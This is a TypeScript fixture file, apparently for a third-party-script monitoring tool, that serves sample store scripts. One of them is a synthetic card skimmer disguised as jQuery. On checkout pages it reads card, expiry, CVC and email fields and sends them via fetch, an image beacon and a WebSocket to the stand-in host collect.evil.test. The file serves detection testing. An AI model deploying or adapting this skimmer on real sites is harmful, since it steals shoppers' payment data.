// The scripts the test store and the demo store serve, written for Vigil. Each builds its URLs from
// the page's own scheme and port (`origin(host)`), so they work behind any port mapping.
// The skimmer is synthetic: it does what published web-skimmer write-ups describe (waits for the
// checkout, reads the card and personal fields, base64-encodes them and sends them out through
// fetch, an image request and a WebSocket to a collection host), aimed at a loopback test host.

const ORIGIN = `function origin(host) { return location.protocol + '//' + host + (location.port ? ':' + location.port : ''); }`;

/** First-party checkout code: validates the form and posts the payment to the store itself. */
export const appScript = `document.addEventListener('DOMContentLoaded', function () {
  var form = document.getElementById('payment');
  if (!form) return;
  form.addEventListener('submit', function (event) {
    event.preventDefault();
    var number = document.getElementById('cc-number').value.replace(/\\s+/g, '');
    if (number.length < 12) return;
    fetch('/api/pay', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token: 'tok_' + number.length }) });
  });
});
`;

/** A third-party analytics tag: a page-view beacon. Its version changes its bytes (the "changed script" variant). */
export const analyticsScript = (version: number) => `/* Partner Analytics v${version} */
(function () {
  ${ORIGIN}
  var hit = { v: ${version}, page: location.pathname, t: Date.now() };
  navigator.sendBeacon(origin('cdn.analytics-partner.test') + '/collect', JSON.stringify(hit));
})();
`;

/** A third-party chat widget that loads an advertising tracker: the tracker is fourth party. */
export const widgetScript = `(function () {
  ${ORIGIN}
  var s = document.createElement('script');
  s.src = origin('tracker.adnet.test') + '/pixel.js';
  s.async = true;
  document.head.appendChild(s);
  var box = document.createElement('div');
  box.id = 'chat';
  box.textContent = 'Chat with us';
  document.body.appendChild(box);
})();
`;

/** The fourth party: a tracking pixel. */
export const pixelScript = `(function () {
  ${ORIGIN}
  new Image().src = origin('tracker.adnet.test') + '/px.gif?ref=' + encodeURIComponent(location.pathname);
})();
`;

/** The synthetic skimmer, disguised as a jQuery build. */
export const skimmerScript = `/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function () {
  ${ORIGIN}
  if (!/checkout|payment|onepage/.test(location.href)) return;
  var sink = origin('collect.evil.test');
  function field(selector) { var el = document.querySelector(selector); return el ? el.value : ''; }
  function grab() {
    var loot = [field('[autocomplete="cc-number"]'), field('[autocomplete="cc-exp"]'), field('[autocomplete="cc-csc"]'), field('[autocomplete="email"]')].join('|');
    var data = btoa(loot);
    fetch(sink + '/c', { method: 'POST', mode: 'no-cors', body: data });
    new Image().src = sink + '/p.gif?d=' + encodeURIComponent(data);
    try { new WebSocket(sink.replace(/^http/, 'ws') + '/ws'); } catch (e) {}
  }
  var card = document.querySelector('[autocomplete="cc-number"]');
  if (card) card.addEventListener('change', function () {});
  document.addEventListener('click', function (event) {
    if (event.target && event.target.id === 'pay') grab();
  }, true);
})();
`;

/** A store's own product-page code: a recommendation request to the store. */
export const productScript = `(function () {
  fetch('/api/recommendations?sku=' + encodeURIComponent(document.body.dataset.sku || ''));
})();
`;
